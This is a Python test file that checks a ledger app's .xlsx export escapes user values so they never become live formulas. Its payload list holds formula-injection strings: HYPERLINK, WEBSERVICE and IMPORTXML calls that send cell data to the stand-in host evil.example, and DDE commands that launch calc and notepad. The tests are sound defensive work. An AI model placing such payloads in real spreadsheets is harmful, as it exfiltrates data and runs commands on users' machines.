"""Issue 10.6: user values in the .xlsx lists are text, never live formulas."""

from __future__ import annotations

import io

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from orglife.documents.spreadsheet import FORMULA_STARTS, cell_value
from orglife.ledger import exports
from orglife.ledger.models import RectificationItem
from tests.downloads import streamed
from tests.ledger.factories import closed_item, make_item

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    '=WEBSERVICE("http://evil.example/"&A3)',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    "=cmd|' /C notepad'!'A1'",
]


def _cells(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("kind", sorted(exports.LISTS))
def test_it_writes_every_user_value_as_text(world, payload, kind):
    world.member_a.name = payload[:50]  # the name column holds 50
    world.member_a.save()
    make_item(
        world,
        title=payload,
        description=payload,
        measures=payload,
        root_cause=payload,
        plan=payload,
        funds_source=payload,
    )
    closed_item(world, title=payload)
    RectificationItem.objects.filter(effect__gt="").update(effect=payload)
    data, _ = exports.export_for(user=world.secretary_a, org=world.branch_a, kind=kind)
    cells = list(_cells(data))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    assert any(t in ("'" + payload, "'" + payload.strip()) for t in texts)


def test_it_exports_the_same_through_the_page_and_the_api(world, api):
    make_item(world, title=PAYLOADS[0])
    for r in (
        world.client(world.secretary_a).get(f"/ledger/export.xlsx?org={world.branch_a.pk}"),
        api(world.secretary_a).get(f"/api/ledger/export?org={world.branch_a.pk}"),
    ):
        assert not [c for c in _cells(streamed(r)) if c.data_type == "f"]


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1, max_size=40))
def test_it_never_leaves_a_formula_start_and_keeps_the_text(text):
    value = cell_value(text)
    assert not str(value).startswith(FORMULA_STARTS)
    assert str(value).removeprefix("'") == text or value == text


@pytest.mark.parametrize("value", [None, 3, 2.5, "", "理论学习", "'已经转义"])
def test_it_leaves_plain_values_alone(value):
    assert cell_value(value) == value
